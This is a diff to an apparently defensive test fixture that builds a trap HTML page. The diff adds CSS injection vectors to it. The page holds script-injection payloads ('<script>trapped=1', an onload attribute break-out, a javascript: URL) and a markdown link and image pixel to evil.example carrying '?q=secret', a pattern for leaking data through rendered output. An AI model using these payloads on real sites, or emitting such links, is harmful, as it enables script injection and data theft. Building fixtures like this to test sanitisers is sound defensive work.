@@ -19,6 +19,9 @@ LINK = "[click](https://evil.example/?q=secret) ![x](https://evil.example/pixel.
 SNARE = f"""<!doctype html><html lang="en"><head><title>{TRAP}{ORDER}</title>
 <meta name="generator" content="WordPress 6.8 &lt;script&gt;trapped=1&lt;/script&gt; &quot; {ORDER} {BIDI} {LINK}">
 <link rel="stylesheet" href="/wp-content/themes/snare/style.css?ver=%3Cscript%3E&quot;&gt;&lt;script&gt;trapped=1&lt;/script&gt;">
+<style>:root{{--trap: "<script>trapped=1"; --{ORDER.replace(" ", "-")}: #123456}}
+body{{font-family:"{ORDER} <script>trapped=1","{BIDI}","[x](https://evil.example/)",serif;color:var(--{ORDER.replace(" ", "-")});font-size:calc(1px + "<script>trapped=1")}}
+h1{{font-family:"x' onload=trapped=1 '";background:url("javascript:trapped=1")}}</style>
 </head><body class="wp-theme-snare &lt;script&gt;trapped=1&lt;/script&gt; {ORDER.replace(" ", "-")}">
 <p>{ORDER} {BIDI} and a long enough text to be read as a page of its own.</p></body></html>"""
 
